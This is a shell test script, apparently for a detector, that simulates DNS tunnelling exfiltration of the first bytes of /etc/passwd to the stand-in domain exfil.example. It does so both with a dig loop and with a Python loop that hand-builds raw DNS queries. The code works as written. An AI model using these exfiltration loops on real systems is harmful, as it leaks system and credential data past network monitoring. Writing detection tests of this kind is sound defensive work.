#!/bin/bash
# desc: a file sent as many short DNS queries under one domain to a name server on another host: a shell loop running dig per 4-byte hex chunk, then a python loop
# mitre: T1048.003, T1071.004
# expect: dns_exfiltration_burst*2
source "$ATTACK_LIB"
source "$(dirname "$ATTACK_LIB")/netns.sh"

netns_create
ns_name_server
head -c 160 /etc/passwd >loot
i=0
for c in $(xxd -p -c 4 loot); do
	dig +tries=1 +time=1 +short "@$PEER" "$c.$i.d.exfil.example" >/dev/null 2>&1 || true
	i=$((i + 1))
done
/usr/bin/python3 - "$PEER" <<'PY'
import os, socket, struct, sys
data = open("loot", "rb").read().hex()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
for i in range(0, len(data), 8):
    name = "%s.%d.q.exfil.example" % (data[i:i + 8], i // 8)
    q = struct.pack(">HHHHHH", i, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
    s.sendto(q, (sys.argv[1], 53))
    try:
        s.recv(512)
    except socket.timeout:
        pass
PY
